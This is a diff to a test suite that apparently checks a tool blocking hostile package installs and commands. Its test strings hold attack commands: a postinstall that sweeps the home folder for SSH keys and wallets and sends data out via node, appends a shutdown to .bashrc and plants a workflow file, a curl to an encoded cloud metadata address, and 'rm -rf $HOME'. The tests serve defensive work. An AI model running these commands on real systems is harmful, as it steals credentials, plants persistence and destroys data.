@@ -18,6 +18,7 @@ from tests.packs.stage import Run, Stage, as_person, git, staged
 
 pytestmark = pytest.mark.root
 KILLED = 137
+REFUSED = 1  # a traceback of PermissionError
 
 
 @dataclass
@@ -81,9 +82,11 @@ def test_a_postinstall_that_starts_agents_and_sweeps_the_home(incident: Incident
     script += 'sh("find ~ -name id_rsa -o -name *wallet*");\n'
     script += f'sh("exec node -e \\"{send}\\"");\n'
     script += 'sh("echo sudo shutdown -h 0 >> ~/.bashrc");\n'
+    made = "~/project/.github/workflows"
+    script += f'sh("mkdir -p {made} && echo on: push > {made}/publish.yml");\n'
     package(incident.stage, script)
     rules = ("installs.agent-unchecked", "installs.reads-secrets", "secrets.sweep")
-    incident((*rules, "installs.writes-elsewhere"), INSTALL)
+    incident((*rules, "persistence.shell-startup", "installs.writes-elsewhere"), INSTALL)
     assert incident.stage.canary.encode() not in incident.stage.sink
 
 
@@ -165,7 +168,7 @@ def test_the_metadata_address_in_six_encodings(incident: Incident) -> None:
     steps = [f'python3 -c "{code}" {spelling}; exit $?' for spelling in spelled]
     asked = "curl -s -m 1 http://169.254.43518/latest/; true"
     run = incident(("egress.cloud-metadata", "egress.metadata-in-arguments"), *steps, asked)
-    assert run.steps == [KILLED] * 6 + [0]
+    assert run.steps == [REFUSED] * 6 + [0]
     assert b"stolen" not in incident.stage.metadata
 
 
@@ -175,7 +178,7 @@ def test_the_removal_of_a_home(incident: Incident) -> None:
     for directory in range(24):
         documents = stage.home / "documents" / f"{directory:02}"
         documents.mkdir(parents=True)
-        for number in range(500):
+        for number in range(1000):
             (documents / str(number)).touch()
     run = incident(("destruction.remove-home",), 'rm -rf "$HOME"; exit $?')
     assert run.steps == [KILLED]
